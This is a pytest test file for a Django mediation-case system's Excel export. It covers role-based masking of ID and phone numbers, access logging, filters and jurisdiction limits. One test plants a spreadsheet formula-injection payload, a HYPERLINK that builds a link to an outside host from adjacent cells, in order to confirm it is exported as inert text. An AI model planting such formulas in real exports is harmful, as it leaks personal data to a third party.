"""Excel export of the console and workbench case lists: masking by role, the access log, the filters."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import AccessLog
from cases.enums import CaseStatus
from cases.permissions import can_view_full_id
from cases.scoping import cases_visible_to
from imports.exports import EXPORT_COLUMNS, full_id_case_ids
from tests.world import PERSONAS, applicant_id, make_case

ID_COL = EXPORT_COLUMNS.index("身份证号")
PHONE_COL = EXPORT_COLUMNS.index("联系电话")


@pytest.fixture
def cases(world):
    return {
        "closed": make_case(world, CaseStatus.CLOSED),
        "intake": make_case(world, CaseStatus.INTAKE, seed=1),
        "mediating": make_case(world, CaseStatus.IN_MEDIATION, seed=2),
    }


def export(client, query: str = "") -> list[tuple]:
    response = client.get(reverse("imports:export_cases") + query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["X-Content-Type-Options"] == "nosniff" and "no-store" in response["Cache-Control"]
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(ws.iter_rows(values_only=True))
    assert "导出" in rows[0][0] and "不得外传" in rows[0][0]
    assert list(rows[1]) == EXPORT_COLUMNS
    return rows[2:]


@pytest.mark.parametrize(
    "persona,full",
    # The director sees the committee's cases in full; a mediator only the cases they mediate (not the unassigned
    # intake case); supervisors never (mediation-domain.md §13.3).
    [
        ("director_a", 3),
        ("mediator_a", 2),
        ("mediator_a2", 0),
        ("sfs_officer", 0),
        ("county_admin", 0),
        ("city_admin", 0),
    ],
)
def test_ids_and_phones_masked_unless_the_role_may_see_them(world, cases, login, persona, full):
    rows = export(login(getattr(world, persona)))
    assert len(rows) == 3
    full_rows = [r for r in rows if applicant_id(1) in r[ID_COL]]
    masked_rows = [r for r in rows if "421***********0017" in r[ID_COL]]
    assert (len(full_rows), len(masked_rows)) == (full, 3 - full)
    assert all("13900000001" in r[PHONE_COL] for r in full_rows)
    assert all("139****0001" in r[PHONE_COL] and "13900000001" not in r[PHONE_COL] for r in masked_rows)
    log = AccessLog.objects.get(user=getattr(world, persona), action="export_cases")
    assert log.detail.startswith("导出3件")
    assert (f"含完整身份证号{full}件" in log.detail) == bool(full)


def test_the_filters_of_the_list_are_respected_and_logged(world, cases, login):
    client = login(world.county_admin)
    rows = export(client, "?status=CLOSED")
    assert [r[0] for r in rows] == [cases["closed"].case_no]
    assert rows[0][EXPORT_COLUMNS.index("状态")] == "已结案"
    assert rows[0][EXPORT_COLUMNS.index("调解结果")] == "调解成功"
    assert rows[0][EXPORT_COLUMNS.index("当事人")] == "张三、李四"
    assert rows[0][EXPORT_COLUMNS.index("涉及金额")] == 3000
    assert rows[0][EXPORT_COLUMNS.index("调委会")] == "桂花村人民调解委员会"
    log = AccessLog.objects.get(action="export_cases")
    assert log.detail == "导出1件；筛选：status=CLOSED"
    assert export(client, "?q=没有这个人") == []


def test_outside_the_jurisdiction_nothing_is_exported(world, cases, login):
    assert export(login(world.other_county_admin)) == []
    assert export(login(world.mediator_b)) == []


@pytest.mark.parametrize("persona", ["party_user", "outsider"])
def test_roles_without_a_case_list_get_403(world, cases, login, persona):
    assert login(getattr(world, persona)).get(reverse("imports:export_cases")).status_code == 403
    assert not AccessLog.objects.filter(action="export_cases").exists()


def test_anonymous_is_sent_to_login(client):
    response = client.get(reverse("imports:export_cases"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_one_query_rule_agrees_with_can_view_full_id(world, cases):
    for name in PERSONAS:
        user = getattr(world, name)
        qs = cases_visible_to(user)
        assert full_id_case_ids(user, qs) == {c.pk for c in qs if can_view_full_id(user, c)}, name


@pytest.mark.parametrize("persona,url", [("county_admin", "console:cases"), ("director_a", "workbench:cases")])
def test_list_pages_offer_the_export_with_their_filters(world, cases, login, persona, url):
    html = login(getattr(world, persona)).get(reverse(url) + "?status=CLOSED").content.decode()
    assert "导出Excel" in html
    assert reverse("imports:export_cases") + "?status=CLOSED" in html


def test_text_that_looks_like_a_formula_is_exported_as_text(world, cases, login):
    """A party name typed in the portal as =HYPERLINK(...) must not become a live formula in the director's Excel."""
    evil = '=HYPERLINK("//x.cn/"&I3&J3,"点击")'
    party = cases["closed"].parties.first()
    type(party).objects.filter(pk=party.pk).update(name=evil)
    response = login(world.director_a).get(reverse("imports:export_cases"))
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=HYPERLINK") for c in cells)


@pytest.mark.parametrize("persona,full_name", [("director_a", True), ("county_admin", False), ("city_admin", False)])
def test_a_wards_name_is_exported_in_full_only_to_those_who_see_the_case_in_full(world, login, persona, full_name):
    from datetime import date

    from cases import actions as A
    from cases.identity import make_valid_id_number
    from tests.world import TZ, case_data

    data = case_data(world.party_user)
    data.parties[0].id_number = make_valid_id_number("421202", date(2016, 5, 17), 7)
    data.parties[0].guardian_name = "张父"
    from datetime import datetime

    A.do_register_case(world.mediator_a, world.village_a, data, at=datetime(2026, 3, 2, 9, tzinfo=TZ))
    names = export(login(getattr(world, persona)))[0][EXPORT_COLUMNS.index("当事人")]
    assert ("张三" in names) is full_name and ("张某" in names) is not full_name
